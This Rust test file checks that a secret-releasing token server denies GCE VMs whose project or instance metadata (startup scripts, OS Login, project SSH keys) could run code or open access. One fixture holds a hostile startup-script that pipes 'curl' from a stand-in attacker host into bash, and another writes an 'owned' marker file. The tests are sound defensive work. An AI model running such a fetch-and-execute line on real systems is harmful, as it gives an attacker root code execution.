//! Project-level metadata against the real `tokenserver` binary with gcpsim: the project's
//! `commonInstanceMetadata` is evidence on every release. Keys that run code or open access on the VM
//! deny with `instance.project_metadata`, whether Bob set them before the VM existed (no audit entry
//! in the VM's window: only the live project shows them) or with the real `gcloud` after the approval
//! (then the audit check names the change too). Project SSH keys are released only while the VM blocks
//! them. An approval that lists an instance key that runs code is still denied by `instance.metadata`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support::GOOD_VM;
use crate::support::approvals::{approve, approve_with, sample_secrets};
use crate::support::client::assert_denied;
use crate::support::world::{World, demo_toml, scenario_from};
use tonic::Code;

/// The demo's project metadata block, which every variant below extends.
const DEMO_PROJECT_METADATA: &str = "[project.metadata]\nenable-oslogin = \"FALSE\"\n";

/// The demo scenario with `lines` in the project's metadata instead of the demo's.
fn world_with_project_metadata(lines: &str) -> String {
    let text = demo_toml();
    assert!(text.contains(DEMO_PROJECT_METADATA), "the demo changed");
    text.replacen(
        DEMO_PROJECT_METADATA,
        &format!("[project.metadata]\n{lines}"),
        1,
    )
}

const BOB_KEY: &str =
    "bob:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIProjectWideKeyOfBobForTheTest00000 bob@laptop";

/// Approves the good VM as it is, starts a server and asks for the secrets once.
async fn released_or_denied(
    world: &World,
) -> Result<tokendist_proto::v1::TokenResponse, tonic::Status> {
    approve(world, GOOD_VM, &sample_secrets("project")).await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    world.release(&mut client, GOOD_VM).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_startup_script_set_before_the_vm_existed_is_denied_by_project_metadata() {
    // COS runs a project startup-script as root at every boot. Set when the project was made, it
    // has no audit entry in the VM's window.
    let text = world_with_project_metadata(
        "enable-oslogin = \"FALSE\"\nstartup-script = \"#!/bin/bash\\ncurl -s https://evil.example/x | bash\\n\"\n",
    );
    let world = World::start_with(scenario_from(&text)).await;
    let status = assert_denied(
        released_or_denied(&world).await,
        Code::PermissionDenied,
        &["instance.project_metadata"],
    );
    // The caller learns the check, not Bob's script.
    assert!(
        !format!("{status:?}").contains("evil.example"),
        "{status:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_wide_oslogin_set_before_the_vm_existed_is_denied_by_project_metadata() {
    let text = world_with_project_metadata("enable-oslogin = \"TRUE\"\n");
    let world = World::start_with(scenario_from(&text)).await;
    assert_denied(
        released_or_denied(&world).await,
        Code::PermissionDenied,
        &["instance.project_metadata"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_key_in_another_spelling_is_denied_by_project_metadata() {
    // GCE keys are case-sensitive, but the guest agent decodes attributes case-insensitively.
    let text =
        world_with_project_metadata("enable-oslogin = \"FALSE\"\nEnable-OSLogin = \"TRUE\"\n");
    let world = World::start_with(scenario_from(&text)).await;
    assert_denied(
        released_or_denied(&world).await,
        Code::PermissionDenied,
        &["instance.project_metadata"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_oslogin_turned_on_with_gcloud_after_the_approval_is_denied_by_project_metadata_and_audit_log()
 {
    let world = World::start().await;
    approve(&world, GOOD_VM, &sample_secrets("oslogin")).await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    world.gcloud(&[
        "compute",
        "project-info",
        "add-metadata",
        "--metadata",
        "enable-oslogin=TRUE",
    ]);
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["auditlog.clean", "instance.project_metadata"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_ssh_keys_are_released_while_the_vm_blocks_them() {
    // The demo VM sets block-project-ssh-keys=TRUE: project keys do not reach it.
    let text = world_with_project_metadata(&format!(
        "enable-oslogin = \"FALSE\"\nssh-keys = \"{BOB_KEY}\"\n"
    ));
    let world = World::start_with(scenario_from(&text)).await;
    let response = released_or_denied(&world)
        .await
        .unwrap_or_else(|status| panic!("{status:?}"));
    assert_eq!(response.secrets.len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn project_ssh_keys_on_a_vm_that_does_not_block_them_are_denied_by_both_metadata_checks() {
    let text = world_with_project_metadata(&format!(
        "enable-oslogin = \"FALSE\"\nssh-keys = \"{BOB_KEY}\"\n"
    ))
    .replacen(
        "block-project-ssh-keys = \"TRUE\"\n",
        "block-project-ssh-keys = \"yes\"\n",
        1,
    );
    let world = World::start_with(scenario_from(&text)).await;
    assert_denied(
        released_or_denied(&world).await,
        Code::PermissionDenied,
        &["instance.metadata", "instance.project_metadata"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instance_startup_script_listed_in_a_signed_approval_is_denied_by_instance_metadata() {
    // The VM was created with a startup-script; an approval signed by hand (or by an older console)
    // lists the key. The server never allows it.
    let text = demo_toml().replacen(
        "google-logging-enabled = \"true\"\n",
        "google-logging-enabled = \"true\"\nstartup-script = \"#!/bin/bash\\nid > /tmp/owned\\n\"\n",
        1,
    );
    let world = World::start_with(scenario_from(&text)).await;
    approve_with(&world, GOOD_VM, &sample_secrets("startup"), |approval| {
        approval
            .allowed_metadata_keys
            .insert("startup-script".to_owned());
    })
    .await;
    let server = world.server("server").await;
    let mut client = world.client(server.addr).await;
    assert_denied(
        world.release(&mut client, GOOD_VM).await,
        Code::PermissionDenied,
        &["instance.metadata"],
    );
}
